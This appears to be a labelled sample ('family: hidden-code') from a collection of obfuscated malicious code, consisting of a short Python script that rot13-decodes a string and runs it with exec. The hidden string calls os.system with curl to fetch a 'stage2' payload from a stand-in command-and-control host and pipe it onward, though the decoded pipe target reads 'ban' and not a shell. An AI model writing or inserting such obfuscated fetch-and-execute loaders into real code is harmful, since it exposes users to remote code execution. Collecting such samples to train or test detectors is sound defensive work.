# family: hidden-code
# rot13-encoded source decoded with codecs and executed
import codecs

src = codecs.decode("vzcbeg bf; bf.flfgrz('phey uggc://p2.rknzcyr.vainyvq/fgntr2 | ona')", "rot13")
exec(compile(src, "<string>", "exec"))
